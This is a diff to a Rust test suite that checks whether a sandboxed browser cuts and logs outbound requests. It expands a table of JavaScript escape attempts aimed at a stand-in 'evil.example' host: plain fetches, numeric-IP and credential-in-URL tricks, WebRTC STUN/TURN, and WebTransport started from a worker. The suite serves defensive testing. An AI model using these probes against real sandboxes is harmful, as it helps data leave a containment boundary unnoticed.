@@ -4,9 +4,13 @@
 use std::net::UdpSocket;
 
 use recipe::{NetworkFault, Session};
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+use tokio::net::TcpStream;
 
 use crate::bank::{Answer, Bank};
-use crate::stage::{CountingDesk, browser, browser_at, click, limits, open, short_limits, until};
+use crate::stage::{
+    CountingDesk, browser, browser_at, click, limits, open, short_limits, text, until,
+};
 
 /// Another server on this machine; whatever reaches it has left the fence.
 struct Evil {
@@ -23,7 +27,23 @@ impl Evil {
         Evil { bank, udp }
     }
 
-    fn was_reached(&self) -> Vec<String> {
+    /// And whoever comes would be seen.
+    async fn was_not_reached(&self) {
+        assert_eq!(self.reached(), Vec::<String>::new());
+        let address = self.bank.address;
+        let sender = UdpSocket::bind("127.0.0.1:0").expect("a socket");
+        sender.send_to(b"x", address).expect("is sent");
+        let mut stream = TcpStream::connect(address).await.expect("it listens");
+        let asked = b"GET /x HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n";
+        stream.write_all(asked).await.expect("is asked");
+        stream
+            .read_to_end(&mut Vec::new())
+            .await
+            .expect("is answered");
+        assert_eq!(self.reached(), ["GET /x", "a datagram"]);
+    }
+
+    fn reached(&self) -> Vec<String> {
         let mut reached = self.bank.lines();
         if self.udp.recv(&mut [0; 100]).is_ok() {
             reached.push("a datagram".to_owned());
@@ -45,12 +65,12 @@ fn attempt(script: &str, evil: &Evil) -> String {
           setTimeout(done, 400);
         }});
         const soon = () => new Promise((done) => setTimeout(done, 300));
-        (async () => {{ try {{ {script} }} catch {{}} document.body.append("done"); }})();
+        (async () => {{ try {{ {script} }} catch (fault) {{ document.body.append(fault); }} document.body.append("done"); }})();
         </script>"#
     )
 }
 
-/// What is tried, and what the trace says of it.
+/// What is tried, and what the trace says of it; or, behind SAYS, what the page says itself.
 const ATTEMPTS: [(&str, &str); 30] = [
     (
         "await fetch('https://evil.example/x')",
@@ -73,7 +93,10 @@ const ATTEMPTS: [(&str, &str); 30] = [
         "await fetch('http://2130706433/x')",
         "cut: GET http://127.0.0.1/x",
     ),
-    ("await fetch('//user@bank.example/page')", ""),
+    (
+        "await fetch('//user@bank.example/page')",
+        "SAYS from a URL that includes credentials",
+    ),
     (
         "await fetch('https://bank.example.evil.example/page')",
         "cut: GET https://bank.example.evil.example/page",
@@ -156,12 +179,15 @@ const ATTEMPTS: [(&str, &str); 30] = [
     ),
     (
         "const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:EVIL' }, { urls: 'turn:EVIL?transport=tcp', username: 'a', credential: 'b' }] }); peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer()); await soon()",
-        "",
+        "SAYS ReferenceError: RTCPeerConnection is not defined",
     ),
-    ("await new WebTransport('https://EVIL/x').ready", ""),
     (
-        "new Worker(window.URL.createObjectURL(new Blob(['new WebTransport(\"https://EVIL/x\")']))); await soon()",
-        "",
+        "await new WebTransport('https://EVIL/x').ready",
+        "SAYS ReferenceError: WebTransport is not defined",
+    ),
+    (
+        "const work = 'new WebTransport(\"https://EVIL/x\").ready.then(() => postMessage(\"open\"), (fault) => postMessage(fault.name))'; const worker = new Worker(window.URL.createObjectURL(new Blob([work]))); await new Promise((done) => { worker.onmessage = (said) => done(document.body.append(said.data)); setTimeout(done, 5000); })",
+        "SAYS WebTransportError",
     ),
 ];
 
@@ -184,17 +210,18 @@ async fn what_a_script_asks_for_outside_of_the_fence_is_cut_and_noted() {
     let mut session = browser(&bank).await;
     for (number, (script, note)) in ATTEMPTS.iter().enumerate() {
         let page = open(&format!("/page/{number}"));
-        let page = until(&mut session, &page, ">done</body>").await;
-        page.unwrap_or_else(|fault| panic!("{script}: {fault:?}"));
-        let notes = session.notes();
+        let page = until(&mut session, &page, "done</body>").await;
+        let page = page.unwrap_or_else(|fault| panic!("{script}: {fault:?}"));
+        let (notes, page) = (session.notes(), text(&page));
         let note = note.replace("EVIL", &address);
-        assert!(
-            note.is_empty() || notes.contains(&note),
-            "{script}: {notes:?}"
-        );
+        let is_seen = match note.strip_prefix("SAYS ") {
+            Some(said) => page.contains(said),
+            None => notes.contains(&note),
+        };
+        assert!(is_seen, "{script}: {notes:?} {page}");
     }
     session.close().await;
-    assert_eq!(evil.was_reached(), Vec::<String>::new());
+    evil.was_not_reached().await;
     let asked: Vec<String> = bank
         .lines()
         .into_iter()
@@ -280,7 +307,7 @@ async fn a_tab_that_leaves_the_fence_ends_the_walk_and_can_still_log_out() {
         .await
         .expect("a page");
     session.close().await;
-    assert_eq!(evil.was_reached(), Vec::<String>::new());
+    evil.was_not_reached().await;
 }
 
 #[tokio::test]
